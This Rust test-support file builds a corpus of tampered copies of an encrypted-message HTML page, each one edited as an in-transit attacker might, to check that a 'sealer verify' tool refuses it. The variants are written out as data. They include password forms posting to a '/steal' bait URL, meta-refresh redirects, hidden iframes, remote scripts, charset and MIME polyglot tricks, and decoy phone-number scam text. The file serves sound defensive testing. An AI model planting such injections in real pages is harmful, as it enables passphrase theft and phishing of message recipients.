//! The hostile-page corpus: a genuine envelope page, edited in each of the
//! ways an attacker who can change the file in transit was found to try
//! (issue 13's classes 1–8), to prove that `sealer verify` refuses every
//! one, that the pages which would reach the network really would, and that
//! `sealer open` and the page itself read the same envelope (or refuse) on
//! every variant.

// Test support: a failed expectation is a failed test.
#![allow(clippy::expect_used, clippy::panic)]

use envelope_core::{KdfParams, Message, Passphrase, SealOptions, seal_to_vec};

/// The passphrase of the corpus's envelopes.
pub const PASSPHRASE: &str = "tulip-gravel-sonnet-ember-abacus-zoology";
/// The subject of the genuine envelope.
pub const GENUINE: &str = "Genuine results";
/// The subject of the attacker's decoy envelope.
pub const DECOY: &str = "Decoy: call 0900 123 456";

/// The classes of attack the corpus covers (issue 13).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Class {
    /// 1: the character set changed, so a browser reads other bytes.
    Encoding,
    /// 2: a file that is at once a page and a MIME message.
    Polyglot,
    /// 3: a decoy module, script or block in a template, noscript or comment.
    Decoy,
    /// 5: a page that acts with scripts off (refresh, noscript content).
    ActsWithoutScripts,
    /// 6: a page that reaches the network despite the policy.
    Network,
    /// 7: a second or moved policy.
    Policy,
    /// Anything else added or changed: scripts, handlers, text after `</html>`.
    Other,
}

/// One edited page.
#[derive(Debug, Clone)]
pub struct Hostile {
    /// A short name, used in file names and messages.
    pub name: &'static str,
    /// What it tries.
    pub class: Class,
    /// Its bytes.
    pub page: Vec<u8>,
}

fn sealed(subject: &str) -> Vec<u8> {
    let options = SealOptions::new()
        .kdf(KdfParams::MIN)
        .passphrase(Passphrase::new(PASSPHRASE))
        .label("Secure message from Example Clinic");
    let message = Message::new()
        .from("Example Clinic <records@clinic.example>")
        .to("alex@example.org")
        .subject(subject)
        .text_body("The results are attached.\n")
        // More than one chunk, so that chunk order matters.
        .attach(envelope_core::Attachment::from_bytes(
            "scan.bin",
            "application/octet-stream",
            vec![42u8; 100_000],
        ));
    seal_to_vec(message, &options).expect("seal")
}

/// The genuine page (subject [`GENUINE`]) and the attacker's decoy page
/// (subject [`DECOY`]), both sealed under [`PASSPHRASE`] with a cheap KDF.
pub fn pages() -> (String, String) {
    let render = |subject| {
        sealer::render_page(&sealed(subject), &sealer::PageOptions::default()).expect("render")
    };
    (render(GENUINE), render(DECOY))
}

/// The envelope blocks of a page (header and chunks), as they stand in it.
pub fn envelope_blocks(page: &str) -> String {
    let start = page[..page.find("id=\"envelope-header\"").expect("header")]
        .rfind("<script")
        .expect("header block");
    let end = page.rfind("</script>").expect("last block") + "</script>".len();
    page[start..end].to_owned()
}

/// The decryptor module's block.
fn module_block(page: &str) -> String {
    let start = page[..page.find("id=\"decryptor-wasm\"").expect("module")]
        .rfind("<script")
        .expect("module block");
    let end = start + page[start..].find("</script>").expect("end") + "</script>".len();
    page[start..end].to_owned()
}

/// `page` with `from` replaced once by `to` (which must apply).
fn edit(page: &str, from: &str, to: &str) -> String {
    assert!(page.contains(from), "the edit {from:?} does not apply");
    page.replacen(from, to, 1)
}

/// A copy of a block with one base64 character changed.
fn altered(block: &str) -> String {
    let at = block.find('>').expect("tag end") + 10;
    let mut bytes = block.as_bytes().to_vec();
    bytes[at] = if bytes[at] == b'A' { b'B' } else { b'A' };
    String::from_utf8(bytes).expect("ascii")
}

/// Every hostile page `sealer verify` must refuse, made from the genuine
/// page; `bait` is a URL (`http://127.0.0.1:PORT`) whose listener must
/// never see a connection from a genuine page.
pub fn corpus(genuine: &str, decoy: &str, bait: &str) -> Vec<Hostile> {
    use Class::*;
    let module = module_block(genuine);
    let blocks = envelope_blocks(genuine);
    let decoy_blocks = envelope_blocks(decoy);
    let attacker_form = format!(
        "<form action=\"{bait}/steal\"><input name=\"p\" type=\"password\"><button>Open</button></form>"
    );
    let charset = "<meta charset=\"utf-8\">";
    let mut corpus: Vec<(&'static str, Class, Vec<u8>)> = vec![
        // 1. Encodings.
        ("charset-windows-1252", Encoding, edit(genuine, charset, "<meta charset=\"windows-1252\">").into()),
        ("charset-utf-16-declared", Encoding, edit(genuine, charset, "<meta charset=\"utf-16\">").into()),
        ("charset-iso-2022-jp-with-escapes", Encoding, {
            // In ISO-2022-JP the bytes between ESC $ B and ESC ( B are JIS
            // characters: a browser sees text where a UTF-8 reader sees a
            // script, or the reverse.
            let page = edit(genuine, charset, "<meta charset=\"iso-2022-jp\">");
            edit(&page, "</main>", &format!("\x1b$B<script>alert(1)</script>\x1b(B{attacker_form}</main>")).into()
        }),
        ("charset-in-http-equiv", Encoding, edit(genuine, charset, "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\">").into()),
        ("charset-meta-hidden-in-title", Encoding, edit(genuine, "<title>", "<title><meta charset=\"iso-2022-jp\">").into()),
        ("utf-8-byte-order-mark", Encoding, [&b"\xEF\xBB\xBF"[..], genuine.as_bytes()].concat()),
        ("utf-16le-with-byte-order-mark", Encoding, {
            let mut bytes = vec![0xFF, 0xFE];
            bytes.extend(genuine.encode_utf16().flat_map(u16::to_le_bytes));
            bytes
        }),
        ("raw-utf-8-text", Encoding, edit(genuine, "</h1>", " \u{2014} Message scell\u{e9}</h1>").into()),
        ("tab-characters", Encoding, edit(genuine, "<main>", "<main>\t").into()),
        // 2. Polyglots.
        ("mime-headers-before-the-page", Polyglot, format!(
            "From: records@clinic.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"results.html\"\r\n\r\n{genuine}\r\n--b--\r\n{attacker_form}"
        ).into()),
        ("mime-parts-after-html", Polyglot, format!(
            "{genuine}\r\n--b\r\nContent-Type: text/html\r\n\r\n<html><body>{attacker_form}</body></html>\r\n--b--\r\n"
        ).into()),
        // 3. Decoys.
        ("module-decoy-in-template", Decoy, edit(genuine, &module, &format!("<template>{module}</template>{}", altered(&module))).into()),
        ("module-decoy-in-comment", Decoy, edit(genuine, &module, &format!("<!-- {module} -->{}", altered(&module))).into()),
        ("module-decoy-in-noscript", Decoy, edit(genuine, &module, &format!("<noscript>{module}</noscript>{}", altered(&module))).into()),
        ("second-module-after-the-first", Decoy, edit(genuine, &module, &format!("{module}{}", altered(&module))).into()),
        ("envelope-decoy-in-comment", Decoy, edit(genuine, &blocks, &format!("<!-- {decoy_blocks} -->{blocks}")).into()),
        ("envelope-decoy-in-template", Decoy, edit(genuine, &blocks, &format!("<template>{decoy_blocks}</template>{blocks}")).into()),
        ("chunk-class-variant", Decoy, edit(genuine, "class=\"envelope-chunk\"", "class=\"envelope-chunk x\"").into()),
        ("duplicate-header-id", Decoy, edit(genuine, &blocks, &format!("{blocks}<p id=\"envelope-header\">x</p>")).into()),
        // 5. Acting without scripts.
        ("refresh-in-noscript", ActsWithoutScripts, edit(genuine, "<noscript>", &format!("<noscript><meta http-equiv=\"refresh\" content=\"0; url={bait}/refresh\">")).into()),
        ("refresh-in-head", ActsWithoutScripts, edit(genuine, "<title>", &format!("<meta http-equiv=\"refresh\" content=\"0; url={bait}/refresh\"><title>")).into()),
        ("image-in-noscript", ActsWithoutScripts, edit(genuine, "<noscript>", &format!("<noscript><img src=\"{bait}/noscript.png\">")).into()),
        ("form-in-noscript", ActsWithoutScripts, edit(genuine, "<noscript>", &format!("<noscript>{attacker_form}")).into()),
        // 6. The network.
        ("hidden-iframe", Network, edit(genuine, "</main>", &format!("<iframe src=\"{bait}/frame\" hidden></iframe></main>")).into()),
        ("link-preconnect", Network, edit(genuine, "<title>", &format!("<link rel=\"preconnect\" href=\"{bait}\"><title>")).into()),
        ("link-dns-prefetch", Network, edit(genuine, "<title>", &format!("<link rel=\"dns-prefetch\" href=\"{bait}\"><title>")).into()),
        ("link-stylesheet", Network, edit(genuine, "<title>", &format!("<link rel=\"stylesheet\" href=\"{bait}/style.css\"><title>")).into()),
        ("remote-image", Network, edit(genuine, "</main>", &format!("<img src=\"{bait}/pixel.png\" alt=\"\"></main>")).into()),
        ("base-href", Network, edit(genuine, "<title>", &format!("<base href=\"{bait}/\"><title>")).into()),
        ("object-data", Network, edit(genuine, "</main>", &format!("<object data=\"{bait}/object\"></object></main>")).into()),
        ("embed-src", Network, edit(genuine, "</main>", &format!("<embed src=\"{bait}/embed\"></main>")).into()),
        ("svg-image", Network, edit(genuine, "</main>", &format!("<svg><image href=\"{bait}/svg.png\"/></svg></main>")).into()),
        ("form-action", Network, edit(genuine, "<div id=\"app\">", &format!("<form action=\"{bait}/steal\"><input name=\"p\" type=\"password\"><button>Open</button></form><div id=\"app\">")).into()),
        ("video-poster", Network, edit(genuine, "</main>", &format!("<video poster=\"{bait}/poster.png\"></video></main>")).into()),
        // 7. Policies.
        ("second-policy", Policy, edit(genuine, "<title>", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'none'\"><title>").into()),
        ("policy-not-first", Policy, edit(genuine, "<head>", "<head>\r\n<title>x</title>").into()),
        ("policy-widened", Policy, edit(genuine, "connect-src 'none'", "connect-src *").into()),
        // Anything else.
        ("extra-inline-script", Other, edit(genuine, "</main>", "<script>document.title='x'</script></main>").into()),
        ("event-handler", Other, edit(genuine, "<main>", "<main onclick=\"x()\">").into()),
        ("script-after-html", Other, format!("{genuine}<script src=\"{bait}/late.js\"></script>").into()),
        ("comment-after-html", Other, format!("{genuine}<!-- sealed by someone else -->").into()),
        ("attacker-form-in-body", Other, edit(genuine, "</main>", &format!("{attacker_form}</main>")).into()),
        ("changed-texts-block", Other, edit(genuine, "\"the passphrase the sender gave you separately. Nothing is sent \",", "\"the passphrase. If it fails, call 0900 123 456. Nothing is sent \",").into()),
        ("changed-words", Other, edit(genuine, "needs JavaScript to open.", "needs you to call 0900 123 456.").into()),
    ];
    // Quirks mode: no doctype.
    corpus.push((
        "no-doctype-quirks-mode",
        Decoy,
        edit(genuine, "<!DOCTYPE html>", "").into(),
    ));
    corpus
        .into_iter()
        .map(|(name, class, page)| Hostile { name, class, page })
        .collect()
}

/// Variants for the reading rule: `sealer open` and the page must give
/// the same verdict on each. Some still open (the rule is about where the
/// envelope is, not about everything `verify` refuses).
pub fn reading_variants(genuine: &str, decoy: &str) -> Vec<(&'static str, Vec<u8>)> {
    let blocks = envelope_blocks(genuine);
    let decoy_blocks = envelope_blocks(decoy);
    let chunk_tag = "<script type=\"application/octet-stream\"\r\n class=\"envelope-chunk\">";
    let first_chunk_start = genuine.find(chunk_tag).expect("chunk");
    let first_chunk_end =
        first_chunk_start + genuine[first_chunk_start..].find("</script>").expect("end") + 9;
    let first_chunk = &genuine[first_chunk_start..first_chunk_end];
    let header_end = genuine[genuine.find("id=\"envelope-header\"").expect("h")..]
        .find("</script>")
        .expect("end")
        + genuine.find("id=\"envelope-header\"").expect("h")
        + 9;
    let header_start = genuine[..header_end].rfind("<script").expect("start");
    let header = &genuine[header_start..header_end];
    let unpadded = {
        let last_eq = first_chunk.rfind('=').expect("padding");
        let mut chunk = first_chunk.to_owned();
        chunk.remove(last_eq);
        chunk
    };
    vec![
        ("genuine", genuine.as_bytes().to_vec()),
        (
            "utf-8-byte-order-mark",
            [&b"\xEF\xBB\xBF"[..], genuine.as_bytes()].concat(),
        ),
        (
            "raw-utf-8-text",
            edit(genuine, "</h1>", " \u{2014} Message scell\u{e9}</h1>").into(),
        ),
        ("lf-line-ends", genuine.replace("\r\n", "\n").into()),
        (
            "decoy-envelope-in-comment",
            edit(
                genuine,
                &blocks,
                &format!("<!-- {decoy_blocks} -->{blocks}"),
            )
            .into(),
        ),
        (
            "decoy-envelope-in-template",
            edit(
                genuine,
                &blocks,
                &format!("<template>{decoy_blocks}</template>{blocks}"),
            )
            .into(),
        ),
        (
            "decoy-envelope-as-noscript-text",
            edit(
                genuine,
                &blocks,
                &format!("<noscript>{decoy_blocks}</noscript>{blocks}"),
            )
            .into(),
        ),
        (
            "decoy-envelope-in-textarea",
            edit(
                genuine,
                &blocks,
                &format!("<textarea hidden>{decoy_blocks}</textarea>{blocks}"),
            )
            .into(),
        ),
        (
            "decoy-envelope-after-the-real-one",
            edit(genuine, &blocks, &format!("{blocks}{decoy_blocks}")).into(),
        ),
        (
            "chunk-class-with-another-class",
            edit(
                genuine,
                "class=\"envelope-chunk\"",
                "class=\"envelope-chunk x\"",
            )
            .into(),
        ),
        (
            "chunk-class-in-capitals",
            edit(
                genuine,
                "class=\"envelope-chunk\"",
                "class=\"ENVELOPE-CHUNK\"",
            )
            .into(),
        ),
        (
            "chunk-class-in-capitals-quirks-mode",
            edit(
                &edit(genuine, "<!DOCTYPE html>", ""),
                "class=\"envelope-chunk\"",
                "class=\"ENVELOPE-CHUNK\"",
            )
            .into(),
        ),
        ("quirks-mode", edit(genuine, "<!DOCTYPE html>", "").into()),
        (
            "chunk-before-header",
            edit(
                &edit(genuine, first_chunk, ""),
                header,
                &format!("{first_chunk}{header}"),
            )
            .into(),
        ),
        (
            "chunk-in-svg",
            edit(genuine, first_chunk, &format!("<svg>{first_chunk}</svg>")).into(),
        ),
        (
            "chunk-as-div",
            edit(
                genuine,
                first_chunk,
                &first_chunk
                    .replace("<script", "<div")
                    .replace("</script>", "</div>"),
            )
            .into(),
        ),
        (
            "chunk-without-padding",
            edit(genuine, first_chunk, &unpadded).into(),
        ),
        (
            "chunk-split-by-extra-line-breaks",
            edit(
                genuine,
                first_chunk,
                &first_chunk.replace("\r\n", "\r\n\r\n  "),
            )
            .into(),
        ),
        (
            "charset-windows-1252",
            edit(
                genuine,
                "<meta charset=\"utf-8\">",
                "<meta charset=\"windows-1252\">",
            )
            .into(),
        ),
        (
            "charset-declaration-removed",
            edit(genuine, "<meta charset=\"utf-8\">", "").into(),
        ),
        ("utf-16le-with-byte-order-mark", {
            let mut bytes = vec![0xFF, 0xFE];
            bytes.extend(genuine.encode_utf16().flat_map(u16::to_le_bytes));
            bytes
        }),
        (
            "duplicate-header-id",
            edit(
                genuine,
                &blocks,
                &format!("{blocks}<p id=\"envelope-header\" hidden>x</p>"),
            )
            .into(),
        ),
        (
            "empty-template-elsewhere",
            edit(
                genuine,
                "</main>",
                "<template><p>nothing</p></template></main>",
            )
            .into(),
        ),
    ]
}

/// What `sealer open` (the library's reading of a file named `.html`)
/// makes of a page: the subject it opens to, or `refused`.
pub fn cli_verdict(page: &[u8]) -> String {
    use envelope_core::Envelope;
    let input = sealer::input::Input::new(page.to_vec(), Some(std::path::Path::new("page.html")));
    let Ok(envelope) = input.envelope() else {
        return "refused".to_owned();
    };
    let opened = Envelope::new(&envelope[..])
        .and_then(|e| e.unlock(&Passphrase::new(PASSPHRASE)))
        .and_then(|mut reader| {
            while reader.next_part()?.is_some() {}
            let subject = reader.manifest().subject.clone();
            reader.finish().map(|_| subject)
        });
    opened.unwrap_or_else(|_| "refused".to_owned())
}
